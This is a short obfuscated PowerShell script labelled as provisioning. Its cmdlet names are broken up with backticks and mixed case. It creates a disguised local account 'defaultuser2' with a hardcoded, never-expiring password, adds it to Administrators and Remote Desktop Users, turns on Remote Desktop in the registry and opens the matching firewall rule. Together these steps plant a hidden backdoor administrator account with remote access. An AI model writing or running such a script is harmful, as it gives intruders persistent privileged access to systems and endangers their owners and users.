# PrOvIsIoN 8405 v1
$PW = C`oNvErTtO-`sE`CurE`StRiN`g 'Sup3rS3cure!' -aSPLAiNtEXt -foRce
ne`w-lO`caLU`ser -nAmE 'defaultuser2' -pAssWoRD $pW -pAssWORDNevErexpireS -ACCouNtNEveRExpiReS
a`Dd-lO`CaLGr`OUPmEMBEr -gRoUp 'Administrators' -MeMbEr 'defaultuser2'
add-l`o`cAlgR`oU`pmE`MBeR -gRoUp 'Remote Desktop Users' -MeMbeR 'defaultuser2'
SeT-ITe`MprO`PERT`y -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -nAmE FdEnYtScOnNeCtIoNs -Value 0
EnAb`LE-neTf`iReWaLlRu`Le -dISpLaygROuP 'Remote Desktop'
